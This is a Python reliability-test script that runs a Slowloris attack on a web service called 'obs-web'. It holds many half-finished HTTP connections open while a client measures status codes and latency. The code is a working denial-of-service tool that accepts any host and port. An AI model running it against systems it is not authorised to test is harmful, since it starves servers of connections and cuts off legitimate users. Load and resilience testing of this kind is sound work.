#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Slowloris against obs-web (reliability-targets G4): open N connections that each send an
unfinished request and then one more byte every INTERVAL seconds, while a legitimate client
polls a document every 20 ms on fresh connections. Prints one JSON line: connections opened
and still open at the end, poll count, status codes, median and p99 latency in ms.
Usage: slowloris.py HOST PORT N SECONDS PATH [INTERVAL]"""
import http.client
import json
import socket
import sys
import time

host, port, n, dur, path = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), sys.argv[5]
interval = float(sys.argv[6]) if len(sys.argv) > 6 else 9.0
slow, refused = [], 0
for _ in range(n):
    s = socket.socket()
    s.settimeout(2)
    try:
        s.connect((host, port))
        s.send(b"GET /api/v1 HTTP/1.1\r\nHost: localhost\r\n")
        slow.append(s)
    except OSError:
        refused += 1
        s.close()
lat, codes = [], {}
t0 = time.monotonic()
last = t0 - interval  # the first byte right away: every connection then trickles on time
while time.monotonic() - t0 < dur:
    if time.monotonic() - last >= interval:
        last = time.monotonic()
        for s in slow:
            try:
                s.send(b"X")
            except OSError:
                pass
    a = time.monotonic()
    try:
        c = http.client.HTTPConnection(host, port, timeout=5)
        c.request("GET", path, headers={"Host": "localhost"})
        r = c.getresponse()
        r.read()
        c.close()
        key = str(r.status)
        lat.append(time.monotonic() - a)
    except OSError as e:
        key = type(e).__name__
    codes[key] = codes.get(key, 0) + 1
    time.sleep(0.02)
alive = 0
for s in slow:
    try:
        s.setblocking(False)
        d = s.recv(1)
        alive += 0 if d == b"" else 1
    except BlockingIOError:
        alive += 1
    except OSError:
        pass
    s.close()
lat.sort()
pct = lambda q: round(1000 * lat[min(len(lat) - 1, int(len(lat) * q))], 1) if lat else None
print(json.dumps({"opened": len(slow), "refused": refused, "open_at_end": alive,
                  "polls": sum(codes.values()), "codes": codes,
                  "median_ms": pct(0.5), "p99_ms": pct(0.99)}))
